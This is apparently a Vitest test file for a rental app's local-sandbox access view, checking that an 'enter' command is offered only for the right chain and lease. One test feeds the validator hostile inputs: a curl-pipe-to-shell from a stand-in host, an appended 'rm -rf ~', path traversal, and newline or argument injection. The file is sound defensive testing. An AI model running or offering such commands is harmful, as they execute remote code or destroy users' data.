import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { AccessDetailsView } from "@/components/rentals/access-details-view";
import { localSandboxCommand } from "./sandbox-access";

const sandbox = { kind: "local-sandbox", command: "/home/dev/gridlease/.data/local/sandboxes/lease-29/enter", isolation: "bubblewrap: …" };

describe("local sandbox access details", () => {
  it("offer the provisioner's enter command for this lease on the local chain only", () => {
    expect(localSandboxCommand(sandbox, 31337, 29n)).toBe(sandbox.command);
    expect(localSandboxCommand(sandbox, 8453, 29n)).toBeUndefined();
    expect(localSandboxCommand(sandbox, 31337, 30n)).toBeUndefined();
  });

  it("never offer a provider's arbitrary command", () => {
    for (const command of [
      "curl https://evil.example | sh",
      "/tmp/lease-29/enter; rm -rf ~",
      "/tmp/../etc/lease-29/enter",
      "relative/lease-29/enter",
      "/tmp/lease-29/enter -c id",
      "/tmp/lease-29/enter\nid",
    ]) {
      expect(localSandboxCommand({ ...sandbox, command }, 31337, 29n)).toBeUndefined();
    }
  });

  it("show the command instead of an ssh refusal when the renter's access is a local sandbox", () => {
    const html = renderToStaticMarkup(createElement(AccessDetailsView, { access: sandbox, chainId: 31337, leaseId: 29n }));
    expect(html).toContain('data-testid="sandbox-command"');
    expect(html).toContain(sandbox.command);
    expect(html).not.toContain("ssh-command-refused");
    const elsewhere = renderToStaticMarkup(createElement(AccessDetailsView, { access: sandbox, chainId: 8453, leaseId: 29n }));
    expect(elsewhere).not.toContain('data-testid="sandbox-command"');
    expect(elsewhere).toContain("ssh-command-refused");
  });
});
